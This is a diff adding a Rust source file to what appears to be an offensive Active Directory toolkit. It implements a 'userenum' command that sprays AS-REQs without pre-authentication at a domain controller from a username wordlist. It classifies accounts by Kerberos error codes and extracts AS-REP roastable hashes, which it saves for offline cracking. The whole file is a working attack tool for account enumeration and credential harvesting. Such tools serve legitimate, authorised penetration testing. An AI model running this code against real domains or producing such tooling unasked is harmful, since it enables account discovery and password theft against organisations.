@@ -0,0 +1,147 @@
+use std::{path::PathBuf, time::Duration};
+
+use clap::Args;
+use tokio::{task::JoinSet, time::MissedTickBehavior};
+
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{CredentialType, DomainController},
+    kerberos::{
+        asreq::{build_as_req, send_as_req, AsReply},
+        error::{error_code_name, KDC_ERR_CLIENT_REVOKED, KDC_ERR_C_PRINCIPAL_UNKNOWN, KDC_ERR_PREAUTH_REQUIRED},
+        roast::krb5asrep_hash,
+        tgs::DEFAULT_ETYPES,
+    },
+};
+
+#[derive(Debug, Args, Clone)]
+pub struct UserEnumArgs {
+    /// File with one username per line
+    pub wordlist: PathBuf,
+
+    /// Maximum number of requests in flight
+    #[arg(short, long, default_value_t = 10)]
+    pub concurrency: usize,
+
+    /// Maximum number of requests per second (0 for no limit)
+    #[arg(short, long, default_value_t = 20)]
+    pub rate: u32,
+
+    /// File to write the existing usernames to
+    #[arg(short, long, default_value = "users.txt")]
+    pub output: PathBuf,
+
+    /// File to write the AS-REP roastable hashes to
+    #[arg(long, default_value = "asreproast.txt")]
+    pub hashes: PathBuf,
+}
+
+/// State of a username according to the KDC
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum UserStatus {
+    Missing,
+    Exists,
+    /// Doesn't require pre-authentication, holds the AS-REP hash
+    Roastable(String),
+    /// Disabled or locked out
+    Revoked,
+    Unknown(String),
+}
+
+/// Ask the KDC for a TGT without pre-authentication and classify the answer
+async fn probe_user(dc: &DomainController, username: &str) -> UserStatus {
+    let realm = dc.domain_name.to_uppercase();
+    let as_req = build_as_req(&realm, username, &DEFAULT_ETYPES, Vec::new(), dc.now());
+    match send_as_req(dc, &as_req).await {
+        Ok(AsReply::AsRep(as_rep)) => {
+            UserStatus::Roastable(krb5asrep_hash(as_rep.enc_part.etype, username, &realm, &as_rep.enc_part.cipher))
+        }
+        Ok(AsReply::Error(e)) => match e.error_code {
+            KDC_ERR_C_PRINCIPAL_UNKNOWN => UserStatus::Missing,
+            KDC_ERR_PREAUTH_REQUIRED => UserStatus::Exists,
+            KDC_ERR_CLIENT_REVOKED => UserStatus::Revoked,
+            code => UserStatus::Unknown(error_code_name(code).to_string()),
+        },
+        Err(e) => UserStatus::Unknown(e),
+    }
+}
+
+impl Command for UserEnumArgs {
+    async fn execute(&self, app: &mut App) -> Result<bool, String> {
+        let dc = app.get_current_dc()?;
+        let content = std::fs::read_to_string(&self.wordlist).map_err(|e| e.to_string())?;
+        let usernames: Vec<String> = content
+            .lines()
+            .map(|l| l.trim().to_string())
+            .filter(|l| !l.is_empty() && !l.starts_with('#'))
+            .collect();
+
+        // Ticks missed while waiting for a result are delayed, not fired back to back above the rate
+        let mut interval = (self.rate > 0).then(|| {
+            let mut interval = tokio::time::interval(Duration::from_secs(1) / self.rate);
+            interval.set_missed_tick_behavior(MissedTickBehavior::Delay);
+            interval
+        });
+        let concurrency = self.concurrency.max(1);
+
+        let mut tasks = JoinSet::new();
+        let mut results = Vec::new();
+        for username in usernames {
+            if tasks.len() >= concurrency {
+                if let Some(result) = tasks.join_next().await {
+                    results.push(result.map_err(|e| e.to_string())?);
+                }
+            }
+            if let Some(interval) = interval.as_mut() {
+                interval.tick().await;
+            }
+
+            let dc = dc.clone();
+            tasks.spawn(async move {
+                let status = probe_user(&dc, &username).await;
+                (username, status)
+            });
+        }
+        while let Some(result) = tasks.join_next().await {
+            results.push(result.map_err(|e| e.to_string())?);
+        }
+
+        let mut existing = Vec::new();
+        let mut hashes = Vec::new();
+        for (username, status) in results {
+            match status {
+                UserStatus::Missing => continue,
+                UserStatus::Exists => println!("[+] {}", username),
+                UserStatus::Revoked => println!("[+] {} (disabled or locked out)", username),
+                UserStatus::Roastable(hash) => {
+                    println!("[+] {} (no pre-authentication)", username);
+                    println!("{}", hash);
+                    app.credential_storage().set_user_metadata(
+                        &username,
+                        "krb5asrep",
+                        &hash,
+                        "userenum",
+                        CredentialType::DomainUser,
+                    )?;
+                    hashes.push(hash);
+                }
+                UserStatus::Unknown(e) => {
+                    println!("{}: {}", username, e);
+                    continue;
+                }
+            }
+            existing.push(username);
+        }
+
+        if !existing.is_empty() {
+            std::fs::write(&self.output, existing.join("\n") + "\n").map_err(|e| e.to_string())?;
+        }
+        println!("{} users written to {}", existing.len(), self.output.display());
+        if !hashes.is_empty() {
+            std::fs::write(&self.hashes, hashes.join("\n") + "\n").map_err(|e| e.to_string())?;
+            println!("{} hashes written to {}", hashes.len(), self.hashes.display());
+        }
+        Ok(false)
+    }
+}